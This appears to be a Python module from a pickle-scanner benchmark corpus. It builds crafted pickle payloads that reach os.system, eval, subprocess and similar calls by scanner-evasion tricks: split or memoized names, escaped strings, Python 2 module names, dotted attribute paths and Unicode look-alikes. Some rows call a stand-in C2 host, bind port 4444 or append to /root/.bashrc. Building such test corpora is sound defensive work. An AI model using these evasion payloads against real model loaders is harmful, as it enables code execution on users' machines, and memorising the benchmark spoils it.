"""Tricks on how a name reaches the import: string opcodes, memo, escapes, old names, dotted names, look-alikes."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from benchmarks.corpus.malicious.asm import (
    DUP,
    MARK,
    MEMOIZE,
    NONE,
    POP,
    POP_MARK,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    C,
    S,
    bin_get,
    bin_put,
    bin_string,
    bin_unicode,
    bin_unicode8,
    get,
    global_,
    inst,
    int_,
    proto,
    put,
    short_string,
    short_unicode,
    text_string,
    text_unicode,
)
from benchmarks.corpus.malicious.opcodes.trick import PLAIN, RUN, Trick
from benchmarks.corpus.malicious.payloads import CODE, COMMAND, NESTED, URL

_TEXT: tuple[tuple[str, Callable[[str], bytes]], ...] = (
    ("string", text_string),
    ("binstring", bin_string),
    ("short-binstring", short_string),
    ("unicode", text_unicode),
    ("binunicode", bin_unicode),
    ("short-binunicode", short_unicode),
    ("binunicode8", bin_unicode8),
)
_OS, _SYSTEM = short_unicode("os"), short_unicode("system")


def _operands() -> Iterator[Trick]:
    for index, (kind, push) in enumerate(_TEXT):
        other = _TEXT[(index + 3) % len(_TEXT)][1]
        source = "GHSA-9gvj-pp9x-gcfr" if kind == "string" else "own"
        yield Trick(
            f"operands-{kind}", "stack-global-operands", push("os") + other("system") + STACK_GLOBAL + RUN + STOP, source=source
        )
    junk = {
        "none-pop": NONE + POP,
        "tuple-pop": int_(1) + TUPLE1 + POP,
        "mark-pop": MARK + POP,
        "pop-mark": MARK + short_unicode("collections") + short_unicode("OrderedDict") + POP_MARK,
        "global-pop": global_("collections", "OrderedDict") + POP,
        "put": bin_put(9),
        "dup-pop": DUP + POP,
        "call-pop": PLAIN.encode(C("builtins:len", "abc")) + POP,
        "int-text": b"I 1_0\r\n" + POP,
    }
    for kind, code in junk.items():
        yield Trick(f"junk-{kind}", "stack-global-junk", proto(4) + _OS + code + _SYSTEM + code + STACK_GLOBAL + RUN + STOP)
    swapped = _SYSTEM + bin_put(0) + POP + _OS + bin_get(0) + STACK_GLOBAL
    yield Trick("memo-swapped", "stack-global-memo", proto(4) + swapped + RUN + STOP, source="picklescan#22")
    decoy = b"".join(
        text_unicode(text) + put(i) + POP for i, text in ((2, "os"), (3, "system"), (0, "torch"), (1, "LongStorage"))
    )
    yield Trick("memo-decoys", "stack-global-memo", decoy + get(2) + get(3) + STACK_GLOBAL + RUN + STOP, source="picklescan#22")
    long_memo = _OS + bin_put(70000) + POP + _SYSTEM + bin_put(300) + POP + bin_get(70000) + bin_get(300) + STACK_GLOBAL
    yield Trick("memo-long", "stack-global-memo", proto(4) + long_memo + RUN + STOP)
    nested = (
        _OS
        + MEMOIZE
        + POP
        + _SYSTEM
        + MEMOIZE
        + POP
        + b"".join(short_unicode(c) + MEMOIZE + POP for c in "decoys")
        + b"h\x00h\x01"
    )
    yield Trick("memoize-then-get", "stack-global-memo", proto(4) + nested + STACK_GLOBAL + RUN + STOP, source="agent-bom#3326")
    twin = short_unicode("timeit") + DUP + STACK_GLOBAL + short_unicode(CODE) + TUPLE1 + REDUCE
    yield Trick("dup-both-names", "stack-global-dup", proto(4) + twin + STOP, "call:timeit:timeit")
    from_tuple = MARK + _OS + _SYSTEM + TUPLE + bin_put(0) + POP + _OS + _SYSTEM + STACK_GLOBAL
    yield Trick("names-inside-tuple-first", "stack-global-junk", proto(4) + from_tuple + RUN + STOP)


def _escapes() -> Iterator[Trick]:
    shapes = {
        "unicode-u": b"V\\u006f\\u0073\n" + b"V\\u0073\\u0079stem\n",
        "unicode-big-u": b"V\\U0000006fs\n" + b"Vs\\U00000079stem\n",
        "string-hex": b"S'\\x6f\\x73'\n" + b"S'sy\\x73tem'\n",
        "string-octal": b"S'\\157\\163'\n" + b"S'\\163ystem'\n",
        "string-double-quotes": b'S"os"\n' + b'S"sys\\164em"\n',
        "string-line-continuation": b"S'o\\\\s'\n" + POP + b"S'os'\n" + b"S'sys\\x74em'\n",
    }
    for kind, code in shapes.items():
        yield Trick(
            f"escape-{kind}", "text-escapes", code + STACK_GLOBAL + b"V" + COMMAND.encode() + b"\n" + TUPLE1 + REDUCE + STOP
        )
    arguments = b"(S'\\x65\\x63\\x68\\x6f inert'\ntR."
    yield Trick("escape-argument", "text-escapes", global_("os", "system") + arguments)
    yield Trick("escape-unicode-argument", "text-escapes", b"cos\nsystem\n(V\\u0065cho\\u0020inert\ntR.")


def _old_names() -> Iterator[Trick]:
    rows: tuple[tuple[str, str, tuple[object, ...]], ...] = (
        ("__builtin__", "eval", (CODE,)),
        ("__builtin__", "apply", (S("os:system"), (COMMAND,))),
        ("__builtin__", "reduce", (S("os:execvp"), ["sh", ["sh", "-c", COMMAND]])),
        ("itertools", "imap", (S("os:system"), [COMMAND])),
        ("commands", "getoutput", (COMMAND,)),
        ("cPickle", "loads", (NESTED,)),
        ("urllib", "urlretrieve", (URL, "/tmp/x")),
        ("thread", "start_new_thread", (S("os:system"), (COMMAND,))),
        ("httplib", "HTTPSConnection", ("c2.payload.invalid",)),
        ("SocketServer", "TCPServer", (("0.0.0.0", 4444), None)),
        ("copy_reg", "_reconstructor", (S("subprocess:Popen"), S("subprocess:Popen"), ["sh", "-c", COMMAND])),
    )
    for module, name, arguments in rows:
        body = proto(2) + global_(module, name) + PLAIN.encode(arguments) + REDUCE + STOP
        yield Trick(f"python2-{module}.{name}", "python2-names", body, f"call:{module}:{name}")
    old_inst = MARK + text_string(CODE) + inst("__builtin__", "eval") + STOP
    yield Trick("python2-inst-eval", "python2-names", old_inst, "call:__builtin__:eval")


def _through(lookup: str) -> object:
    """``os.system`` fetched by a lookup in some module's globals, then called."""
    return C(C("builtins:getattr", C(lookup, "os"), "system"), COMMAND)


def _dotted() -> Iterator[Trick]:
    rows: tuple[tuple[str, object, str], ...] = (
        ("torch", C("torch:os.system", COMMAND), "call:torch:os.system"),
        ("numpy", _through("numpy.core._internal:sys.modules.get"), "call:builtins:getattr()"),
        ("collections", _through("collections:_sys.modules.__getitem__"), "call:builtins:getattr()"),
        ("typing", _through("typing:sys.modules.get"), "call:builtins:getattr()"),
        ("numpy-builtins", C(C("builtins:dict.get", S("numpy:__builtins__"), "exec"), CODE), "call:builtins:dict.get()"),
        ("logging", C("logging:os.popen", COMMAND), "call:logging:os.popen"),
        ("tokenize", C("tokenize:_builtin_open", "/root/.bashrc", "a"), "call:tokenize:_builtin_open"),
        (
            "torch-library",
            C("torch.library:torch.utils.collect_env.run", COMMAND),
            "call:torch.library:torch.utils.collect_env.run",
        ),
        ("joblib", C("joblib.numpy_pickle:pickle.loads", NESTED), "call:joblib.numpy_pickle:pickle.loads"),
        ("sklearn", _through("sklearn.utils:warnings.sys.modules.get"), "call:builtins:getattr()"),
        ("random", C("random:_os.system", COMMAND), "call:random:_os.system"),
        ("globals", _through("torch._utils:_rebuild_tensor_v2.__globals__.get"), "call:builtins:getattr()"),
    )
    for name, tree, expect in rows:
        source = "fickling GHSA-5j3x (dotted names)" if name == "torch" else "modelscan#89" if name == "numpy-builtins" else "own"
        yield Trick(f"dotted-{name}", "dotted-name", proto(4) + PLAIN.encode(tree) + STOP, expect, source)
    late = b"I1\n0" + proto(4) + PLAIN.encode(C("os:path.os.system", COMMAND)) + STOP
    yield Trick("dotted-late-proto", "dotted-name", late, "call:os:path.os.system")
    text = proto(4) + global_("os", "path.os.system") + RUN + STOP
    yield Trick("dotted-text-global", "dotted-name", text, "call:os:path.os.system")


def _look_alikes() -> Iterator[Trick]:
    for name, module, attribute in (
        ("cyrillic-torch", "t\u043erch._utils", "_rebuild_tensor_v2"),
        ("fullwidth-numpy", "\uff4eumpy", "dtype"),
        ("surrogate", "colle\udcffctions", "OrderedDict"),
        ("zero-width", "collections\u200b", "OrderedDict"),
        ("typosquat", "numpyy.core.multiarray", "_reconstruct"),
        ("case", "Collections", "OrderedDict"),
    ):
        body = proto(4) + PLAIN.encode(C(f"{module}:{attribute}", COMMAND)) + STOP
        yield Trick(f"lookalike-{name}", "look-alike-module", body, f"call:{module}:{attribute}")
    trailing = proto(4) + short_unicode("antigravity") + short_unicode("fly") + STACK_GLOBAL
    yield Trick("import-effect-then-missing-name", "import-effect", trailing + STOP, "find:antigravity:fly")
    yield Trick("import-effect-no-last-newline", "import-effect", b"cantigravity\nfly", "find:antigravity:fl")
    yield Trick(
        "import-effect-user-module",
        "import-effect",
        b"ctoadstone_payload.run\nanything\n.",
        "find:toadstone_payload.run:anything",
    )


def tricks() -> Iterator[Trick]:
    """All tricks of this module."""
    yield from _operands()
    yield from _escapes()
    yield from _old_names()
    yield from _dotted()
    yield from _look_alikes()
